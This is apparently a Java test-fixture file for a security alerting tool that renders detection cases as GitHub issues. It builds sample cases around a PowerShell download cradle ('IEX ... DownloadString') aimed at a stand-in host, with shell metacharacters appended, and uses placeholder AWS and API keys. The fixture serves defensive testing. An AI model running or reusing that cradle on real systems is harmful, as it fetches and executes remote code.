package dev.takagari.alerting.github;

import dev.takagari.alerting.facts.FactKeys;
import dev.takagari.alerting.note.CaseBrief;
import dev.takagari.alerting.note.CaseBriefs;
import dev.takagari.alerting.note.CaseLinks;
import dev.takagari.core.cases.Actor;
import dev.takagari.core.cases.Assessment;
import dev.takagari.core.cases.Case;
import dev.takagari.core.cases.CaseCounts;
import dev.takagari.core.cases.CaseKey;
import dev.takagari.core.cases.CaseState;
import dev.takagari.core.cases.CaseTimes;
import dev.takagari.core.cases.CloseReason;
import dev.takagari.core.cases.Disposition;
import dev.takagari.core.cases.Fact;
import dev.takagari.core.cases.FactGroup;
import dev.takagari.core.cases.FactGroup.Kind;
import dev.takagari.core.cases.StoredDetection;
import dev.takagari.core.cases.Tell;
import dev.takagari.core.cases.TimelineEntry;
import dev.takagari.core.cases.TimelineEntry.What;
import dev.takagari.core.detection.Detection;
import dev.takagari.core.detection.Detections;
import dev.takagari.core.detection.Severity;
import dev.takagari.core.event.Columns;
import java.net.URI;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SequencedMap;
import java.util.Set;

/// Cases as issues tell them, for tests.
final class ToldCases {
  static final CaseKey KEY = new CaseKey(2026, 482);
  static final Instant T = Detections.TIME;
  static final String COMMAND =
      "powershell.exe -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://cdn.lapwing-sync.example/r/4471')\" | Out-Null; echo `done` & rem @dana #12";

  private static final CaseLinks LINKS = new CaseLinks(URI.create("https://takagari.example"));

  private ToldCases() {}

  static CaseBrief open() {
    return brief(
        found("PowerShell download cradle", 1),
        List.of(detection("a", "WS-0142", COMMAND)),
        List.of(),
        entries(0));
  }

  static CaseBrief withFacts() {
    return brief(
        found("PowerShell download cradle", 1),
        List.of(detection("a", "WS-0142", COMMAND)),
        facts(),
        entries(0));
  }

  static CaseBrief acknowledged() {
    Case open = found("PowerShell download cradle", 1);
    Case found =
        new Case(
            open.key(),
            open.groupKey(),
            open.source(),
            open.ruleId(),
            open.title(),
            open.severity(),
            open.assessment(),
            CaseState.ACKNOWLEDGED,
            null,
            "",
            "dana",
            2,
            open.times(),
            open.counts(),
            null);
    return brief(found, List.of(detection("a", "WS-0142", COMMAND)), List.of(), entries(0));
  }

  static CaseBrief closed() {
    return brief(
        closed(
            CloseReason.EXPECTED, "Roll-out of the new agent, ticket OPS-77.\n@dana knows", null),
        List.of(detection("a", "WS-0142", COMMAND)),
        facts(),
        entries(30));
  }

  static CaseBrief merged() {
    return brief(
        closed(CloseReason.DUPLICATE, "", new CaseKey(2026, 400)),
        List.of(),
        List.of(),
        entries(0));
  }

  static CaseBrief hosts(int hosts) {
    List<Detection> detections = new ArrayList<>();
    for (int i = 0; i < Math.min(hosts, CaseBriefs.MOST_HOSTS); i++) {
      detections.add(detection("d" + i, "WS-%04d".formatted(i), "agent.exe --update " + i));
    }
    return brief(
        found("Mass roll-out of an unknown program", hosts), detections, List.of(), entries(3));
  }

  /// Every text of an event is this one.
  static CaseBrief hostile(String text) {
    Detection plain = detection("h", text, text);
    SequencedMap<String, List<String>> fields = new LinkedHashMap<>();
    plain.fields().forEach((name, _) -> fields.put(name, List.of(text)));
    fields.put(Columns.THREAT_TECHNIQUE_ID.name(), List.of(text));
    SequencedMap<String, String> details = new LinkedHashMap<>();
    details.put(text, text);
    details.put("next steps", text + "\n" + text);
    Detection hostile =
        new Detection(
            "h",
            "1",
            Detection.Sources.FALCON,
            text.isBlank() ? "r" : text,
            title(text),
            text,
            Severity.HIGH,
            T,
            1,
            "g",
            "e",
            "d",
            fields,
            details,
            "",
            Set.of());
    List<FactGroup> facts = new ArrayList<>();
    for (Kind kind : Kind.values()) {
      SequencedMap<String, String> values =
          new LinkedHashMap<>(Map.of(FactKeys.VERDICT, "malicious"));
      facts.add(
          new FactGroup(
              kind,
              FactGroup.State.PARTIAL,
              text,
              T,
              List.of(
                  new Fact("label", text, text, T, values, text),
                  new Fact("label", text, text, null, values, text))));
    }
    Case base = found(title(text), 1);
    Case found =
        new Case(
            KEY,
            "g",
            Detection.Sources.FALCON,
            text,
            title(text),
            Severity.MEDIUM,
            new Assessment(Severity.HIGH, "known-bad", List.of(title(text)), Tell.PAGE, "p"),
            CaseState.CLOSED,
            CloseReason.OTHER,
            text,
            text,
            3,
            base.times(),
            base.counts(),
            null);
    List<TimelineEntry> entries = new ArrayList<>();
    for (int i = 1; i <= 40; i++) {
      entries.add(
          new TimelineEntry(
              i, T, new Actor(title(text), Actor.Origin.SLACK), What.COMMENTED, text));
    }
    return CaseBriefs.of(found, List.of(stored(hostile)), facts, entries, LINKS);
  }

  /// As long as a case gets: everything is as long as stores let it be.
  static CaseBrief veryLong(String unit) {
    String text = unit.repeat(Math.max(1, 32_000 / Math.max(1, unit.length())));
    List<Detection> detections = new ArrayList<>();
    for (int i = 0; i < CaseBriefs.MOST_HOSTS; i++) {
      detections.add(detection("l" + i, "WS-%04d".formatted(i), i + " " + text));
    }
    List<FactGroup> facts = new ArrayList<>();
    for (Kind kind : Kind.values()) {
      List<Fact> many = new ArrayList<>();
      for (int i = 0; i < 200; i++) {
        many.add(
            new Fact(
                "called malicious",
                i + text,
                "indicators",
                T,
                new LinkedHashMap<>(Map.of(FactKeys.VERDICT, "malicious")),
                i % 2 == 0 ? "a" : "b"));
      }
      facts.add(new FactGroup(kind, FactGroup.State.PENDING, text, T, many));
    }
    List<TimelineEntry> entries = new ArrayList<>();
    for (int i = 1; i <= 500; i++) {
      entries.add(
          new TimelineEntry(i, T, new Actor("dana", Actor.Origin.SLACK), What.COMMENTED, text));
    }
    return CaseBriefs.of(
        found(text, 200),
        detections.stream().map(ToldCases::stored).toList(),
        facts,
        entries,
        LINKS);
  }

  private static String title(String text) {
    return text.isEmpty() ? "t" : text;
  }

  static Detection detection(String id, String host, String command) {
    SequencedMap<String, List<String>> fields =
        Detections.fields(
            Columns.HOST_ID, "id-" + id,
            Columns.HOST_NAME, host,
            Columns.PROCESS_NAME, "powershell.exe",
            Columns.PROCESS_COMMAND_LINE, command,
            Columns.USER_NAME, "CORP\\a.tanaka",
            Columns.DNS_QUESTION_NAME, "cdn.lapwing-sync.example",
            Columns.AWS_ACCESS_KEY_ID, "AKIAIOSFODNN7EXAMPLE",
            Columns.THREAT_TECHNIQUE_ID, "T1059.001");
    SequencedMap<String, String> details = new LinkedHashMap<>();
    details.put("pattern", "PowerShell called the network from Word");
    details.put("api_key", "hunter2");
    return new Detection(
        id,
        "1",
        Detection.Sources.FALCON,
        "SuspiciousPowerShell",
        "PowerShell download cradle",
        "A process fetched a script from http://cdn.lapwing-sync.example/r/4471 and ran it.",
        Severity.HIGH,
        T,
        3,
        "g",
        "01abcdefghjkmnpqrstvwxyz01",
        "crowdstrike.stream",
        fields,
        details,
        "https://falcon.crowdstrike.com/activity/detections/detail/x",
        Set.of());
  }

  private static Case found(String title, long hosts) {
    return new Case(
        KEY,
        "g",
        Detection.Sources.FALCON,
        "SuspiciousPowerShell",
        title,
        // what the detections say, which the policy raised
        Severity.MEDIUM,
        new Assessment(
            Severity.HIGH,
            "suspicious",
            List.of("its severity is high", "a document started it"),
            Tell.PAGE,
            "shipped 3"),
        CaseState.OPEN,
        null,
        "",
        "",
        1,
        new CaseTimes(T.plusSeconds(4), T, T.plusSeconds(hosts > 1 ? 3_600 : 0), null, null, null),
        new CaseCounts(hosts, 3 * hosts, hosts),
        null);
  }

  private static Case closed(
      CloseReason reason, String note, @org.jspecify.annotations.Nullable CaseKey into) {
    Case open = found("PowerShell download cradle", 1);
    CaseTimes times =
        new CaseTimes(open.times().opened(), T, T, T.plusSeconds(60), T.plusSeconds(600), null);
    return new Case(
        KEY,
        "g",
        open.source(),
        open.ruleId(),
        open.title(),
        open.severity(),
        open.assessment(),
        CaseState.CLOSED,
        reason,
        note,
        "dana",
        4,
        times,
        open.counts(),
        into);
  }

  private static CaseBrief brief(
      Case found, List<Detection> detections, List<FactGroup> facts, List<TimelineEntry> entries) {
    return CaseBriefs.of(
        found, detections.stream().map(ToldCases::stored).toList(), facts, entries, LINKS);
  }

  private static StoredDetection stored(Detection detection) {
    return new StoredDetection(
        detection, detection.time(), Disposition.FILED, "", KEY, null, 1, 0, T);
  }

  private static List<TimelineEntry> entries(int more) {
    List<TimelineEntry> entries = new ArrayList<>();
    entries.add(
        new TimelineEntry(
            1, T.plusSeconds(4), Actor.SYSTEM, What.OPENED, "PowerShell download cradle"));
    entries.add(
        new TimelineEntry(
            2, T.plusSeconds(60), new Actor("dana", Actor.Origin.SLACK), What.ACKNOWLEDGED, ""));
    for (int i = 0; i < more; i++) {
      entries.add(
          new TimelineEntry(
              3 + i,
              T.plusSeconds(70 + i),
              new Actor("github:octo", Actor.Origin.GITHUB),
              What.COMMENTED,
              "Looked at part " + i + " of http://cdn.lapwing-sync.example",
              "https://github.example/o/r/issues/1#issuecomment-" + i));
    }
    return entries;
  }

  private static List<FactGroup> facts() {
    return List.of(
        group(
            Kind.WHO,
            fact(
                "owner of the account",
                "Ann Kato, team Accounting, #accounting",
                "owner table, line 2",
                T)),
        group(
            Kind.WHERE,
            fact("host", "WS-0142", "detection", T),
            fact("address", "10.20.0.4", "registry (aidmaster)", T.minusSeconds(3_600))),
        group(
            Kind.BEFORE,
            fact("process", "powershell.exe: " + COMMAND, "sensor", T),
            fact(
                "parent",
                "winword.exe: \"C:\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\ann\\Downloads\\Rechnung_4471.docm\"",
                "sensor",
                T.minusSeconds(17)),
            fact(
                "document",
                "outlook.exe wrote \\Users\\ann\\Downloads\\Rechnung_4471.docm, and winword.exe was called with it",
                "sensor",
                T.minusSeconds(21))),
        new FactGroup(
            Kind.AFTER,
            FactGroup.State.PENDING,
            "",
            T,
            List.of(
                fact(
                    "connection",
                    "203.0.113.177:443 by lapwingsync.exe",
                    "sensor",
                    T.plusSeconds(6)))),
        group(
            Kind.KNOWN,
            verdict(
                "malicious",
                "called malicious",
                "cdn.lapwing-sync.example: listed by isac since 2026-11-18, confidence 90",
                T.minusSeconds(4_000)),
            fact(
                "not found",
                "203.0.113.177: not known to indicators, virustotal; that is no sign that it is harmless",
                "indicators, virustotal",
                T)),
        group(
            Kind.EARLIER,
            verdict(
                "false-positive",
                "earlier case",
                "same rule, 9 days ago, closed as false positive",
                T.minusSeconds(777_600))));
  }

  private static FactGroup group(Kind kind, Fact... facts) {
    return new FactGroup(kind, FactGroup.State.COMPLETE, "", T, List.of(facts));
  }

  private static Fact fact(String label, String text, String source, Instant time) {
    return new Fact(label, text, source, time);
  }

  private static Fact verdict(String verdict, String label, String text, Instant time) {
    return new Fact(
        label, text, "indicators", time, new LinkedHashMap<>(Map.of(FactKeys.VERDICT, verdict)));
  }
}
